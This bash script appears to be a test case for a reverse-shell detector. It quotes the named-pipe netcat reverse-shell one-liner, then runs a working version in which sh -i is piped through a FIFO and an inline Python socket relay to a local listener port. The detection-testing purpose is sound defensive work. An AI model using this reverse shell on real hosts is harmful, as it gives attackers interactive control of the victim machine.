#!/bin/bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1095 Non-Application Layer Protocol
# reproduces: the named-pipe reverse shell of revshells.com and PayloadsAllTheThings (`rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`), with the netcat part written in python as hosts without nc get it
# expect: reverse-shell-pipe-relay ^(da)?sh$
# exec-borne: yes
#
# sh reads its commands through cat from the FIFO the relay writes, and
# writes its output into the pipe the relay reads.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

dir=$(mktemp -d "${BW_ATTACK_TMP:?}/relay-XXXXXX")
trap 'rm -rf "$dir"' EXIT
mkfifo "$dir/f"

relay='
import socket, sys, threading
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
def upstream():
    for line in sys.stdin.buffer:
        try:
            s.sendall(line)
        except OSError:
            return
    s.shutdown(socket.SHUT_WR)  # the shell is gone: let the C2 hang up
threading.Thread(target=upstream, daemon=True).start()
while True:
    data = s.recv(4096)
    if not data:
        break
    sys.stdout.buffer.write(data)
    sys.stdout.buffer.flush()
'

cat "$dir/f" | sh -i 2>&1 | python3 -c "$relay" 127.0.0.1 "${BW_ATTACK_LISTEN_PORT:?}" > "$dir/f"
exit 0
